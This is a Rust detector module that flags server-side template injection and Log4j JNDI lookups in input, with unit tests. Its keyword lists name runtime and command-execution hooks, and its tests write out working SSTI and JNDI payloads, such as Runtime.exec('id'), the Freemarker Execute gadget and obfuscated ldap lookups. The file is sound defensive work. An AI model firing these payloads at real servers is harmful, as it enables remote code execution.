//! Server-side template injection: template syntax in a value that a server renders
//! as a template (Jinja2/Twig `{{…}}` and `{%…%}`, JSP/Spring EL and Freemarker
//! `${…}`, Ruby/JSF `#{…}`, ERB/ASP `<%= … %>`, Thymeleaf `*{…}`, Freemarker
//! `<#assign …>`, Velocity `#set(…)`), and the Log4j lookup `${jndi:…}` that
//! shares its syntax.
//!
//! A placeholder alone (`{{name}}`, `${HOME}`) is ordinary in mail templates and
//! documentation, so it is only a warning. What makes an attack is *expression
//! content* between the delimiters: arithmetic probes (`7*7`), calls, indexing,
//! dunder or reflection names (`__class__`, `getClass`, `constructor`), filters
//! (`|attr`), lookups (`jndi:`, `env:`), or a statement tag. Each pair of
//! delimiters is scanned once, so the check is linear.

use super::prefilter::{find_ci, ByteSet};
use super::{severity, Detector, Hit};

fn hit(sev: u32, reason: &'static str) -> Option<Hit> {
    Some(Hit {
        detector: Detector::Ssti,
        severity: sev,
        reason,
    })
}

/// Checks one decoded form of a value.
pub fn check(s: &str) -> Option<Hit> {
    check_set(s, &ByteSet::of(s.as_bytes()))
}

/// Every template syntax has a `{` or starts with `<` (`<%`, `<#`) or `#` (`#set(`).
const TRIGGERS: ByteSet = ByteSet::from_bytes(b"{<#");

/// Names that reach the runtime from inside a template.
const REFLECTION: &[&[u8]] = &[
    b"__class__",
    b"__globals__",
    b"__builtins__",
    b"__import__",
    b"__subclasses__",
    b"__mro__",
    b"__init__",
    b"getclass",
    b"forname",
    b"getruntime",
    b"constructor",
    b"processbuilder",
    b"freemarker.template",
    b"config.items",
    b"request.application",
    b"self._",
    b"lipsum",
    b"cycler",
    b"joiner",
    b"namespace",
    b"t(java",
    b"new(",
    b"?new",
    b"_self.env",
    b"getfilter",
    b"registerundefinedfiltercallback",
    b"popen",
    b"os.system",
    b"subprocess",
    b"exec(",
    b"eval(",
];

/// Statement tags that run code in Jinja2/Twig/Django.
const STATEMENTS: &[&[u8]] = &[
    b"import", b"include", b"extends", b"set", b"for", b"if", b"macro", b"call", b"filter",
    b"load", b"debug", b"raw", b"with", b"block", b"print",
];

/// [`check`] with the byte set of `s` already computed.
pub fn check_set(s: &str, set: &ByteSet) -> Option<Hit> {
    if !set.intersects(&TRIGGERS) {
        return None;
    }
    let b = s.as_bytes();
    let mut best: Option<Hit> = None;
    let mut keep = |h: Option<Hit>| {
        if let Some(h) = h {
            if best.is_none_or(|x: Hit| h.severity > x.severity) {
                best = Some(h);
            }
        }
    };
    if set.has(b'{') {
        for open in [&b"{{"[..], b"${", b"#{", b"*{", b"@{", b"~{"] {
            let close: &[u8] = if open == b"{{" { b"}}" } else { b"}" };
            keep(delimited(b, open, close, false));
        }
        keep(delimited(b, b"{%", b"%}", true));
    }
    if set.has(b'<') {
        if set.has(b'%') {
            keep(erb(b));
        }
        if set.has(b'#')
            && (find_ci(b, b"<#assign") || find_ci(b, b"<#list") || find_ci(b, b"<#include"))
        {
            keep(hit(severity::CRITICAL, "template-directive"));
        }
    }
    if set.has(b'#') && set.has(b'(') && (find_ci(b, b"#set(") || find_ci(b, b"#set (")) {
        keep(hit(severity::CRITICAL, "template-directive"));
    }
    best
}

/// Each `open … close` pair in `b`; the strongest verdict on their contents.
fn delimited(b: &[u8], open: &[u8], close: &[u8], statement: bool) -> Option<Hit> {
    let mut best = None;
    let mut i = 0;
    while let Some(off) = memchr::memmem::find(&b[i..], open) {
        let s = i + off + open.len();
        // Nested `${…${…}…}` (Log4j) is judged by its outer pair: the inner text up to
        // the first close is enough to see the lookup.
        let Some(e) = memchr::memmem::find(&b[s..], close) else {
            break;
        };
        let inner = &b[s..s + e];
        i = s + e + close.len();
        let verdict = if statement {
            statement_tag(inner)
        } else {
            // `${${lower:j}ndi:…}`: the innermost open before this close is judged
            // too, so a lookup nested to hide it is still seen.
            let innermost = memchr::memmem::rfind(inner, open)
                .map(|k| expression(&inner[k + open.len()..], open));
            let whole = expression(inner, open);
            match (innermost.flatten(), whole) {
                (Some(a), Some(b)) => Some(if a.severity >= b.severity { a } else { b }),
                (a, b) => a.or(b),
            }
        };
        if let Some(h) = verdict {
            if h.severity >= severity::CRITICAL {
                return Some(h);
            }
            best = Some(h);
        }
    }
    best
}

/// The content of `{{…}}`, `${…}`, `#{…}`…: a placeholder or an expression.
fn expression(inner: &[u8], open: &[u8]) -> Option<Hit> {
    let t = inner.trim_ascii();
    if t.is_empty() || t.len() > 2000 {
        return None;
    }
    // `${jndi:ldap://…}`, `${env:AWS_SECRET}`: Log4j lookups. `${lower:j}` and
    // friends spell `jndi` piecewise, so any `word:` lookup counts.
    if open == b"${" {
        let w = t
            .iter()
            .position(|c| !c.is_ascii_alphabetic())
            .unwrap_or(t.len());
        if w > 0 && t.get(w) == Some(&b':') {
            return hit(severity::CRITICAL, "template-lookup");
        }
    }
    if REFLECTION.iter().any(|r| find_ci(t, r)) {
        return hit(severity::CRITICAL, "template-reflection");
    }
    // Arithmetic between two operands (`7*7`, `7 * '7'`), the canonical probe.
    let arith = t.windows(3).any(|w| {
        (w[0].is_ascii_alphanumeric() || matches!(w[0], b'\'' | b'"' | b')' | b' '))
            && matches!(w[1], b'*' | b'+' | b'-' | b'/' | b'%')
            && (w[2].is_ascii_alphanumeric() || matches!(w[2], b'\'' | b'"' | b'(' | b' '))
    }) && t.iter().any(u8::is_ascii_digit);
    let call = t.contains(&b'(') && t.contains(&b')');
    let index = t.contains(&b'[');
    let filter = open == b"{{" && t.contains(&b'|');
    if arith || call || index || filter {
        return hit(severity::CRITICAL, "template-expression");
    }
    // `{{name}}`, `${user.name}`: a placeholder. Worth noting, not blocking.
    hit(severity::WARNING, "template-placeholder")
}

/// `{% import os %}`, `{% set x = … %}`: statement tags.
fn statement_tag(inner: &[u8]) -> Option<Hit> {
    let t = inner.trim_ascii();
    let t = t.strip_prefix(b"-").unwrap_or(t).trim_ascii_start();
    let w = t
        .iter()
        .position(|c| !c.is_ascii_alphabetic())
        .unwrap_or(t.len());
    let word = &t[..w];
    if w > 0 && STATEMENTS.iter().any(|s| word.eq_ignore_ascii_case(s)) {
        return hit(severity::CRITICAL, "template-statement");
    }
    None
}

/// `<%= … %>` (ERB/ASP/EJS output) and `<% … %>` code blocks with something in them.
fn erb(b: &[u8]) -> Option<Hit> {
    let mut i = 0;
    while let Some(off) = memchr::memmem::find(&b[i..], b"<%") {
        let s = i + off + 2;
        let Some(e) = memchr::memmem::find(&b[s..], b"%>") else {
            break;
        };
        let inner = b[s..s + e].trim_ascii();
        i = s + e + 2;
        let inner = inner
            .strip_prefix(b"=")
            .or_else(|| inner.strip_prefix(b"-"))
            .unwrap_or(inner)
            .trim_ascii();
        if inner.iter().any(u8::is_ascii_alphanumeric) {
            return hit(severity::CRITICAL, "template-code-block");
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sev(s: &str) -> u32 {
        check(s).map_or(0, |h| h.severity)
    }

    #[test]
    fn expressions() {
        for s in [
            "{{7*7}}",
            "{{ 7 * '7' }}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "<%= 7*7 %>",
            "<%= system('id') %>",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{request|attr('application')}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "{% import os %}",
            "{%- set x = 1 -%}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x = $e.getClass())",
            "{{constructor.constructor('alert(1)')()}}",
        ] {
            assert_eq!(sev(s), severity::CRITICAL, "{s}");
        }
    }

    #[test]
    fn placeholders_and_prose() {
        for s in [
            "{{name}}",
            "Hello {{ first_name }}!",
            "${HOME}/bin",
            "#{id}",
        ] {
            assert_eq!(sev(s), severity::WARNING, "{s}");
        }
        for s in [
            "{}",
            "{ \"a\": 1 }",
            "function f() { return 1; }",
            "50% off <b>today</b> 100%",
            "<% %>",
            "issue #setup (see wiki)",
            "{% endraw",
        ] {
            assert_eq!(sev(s), 0, "{s}");
        }
    }
}
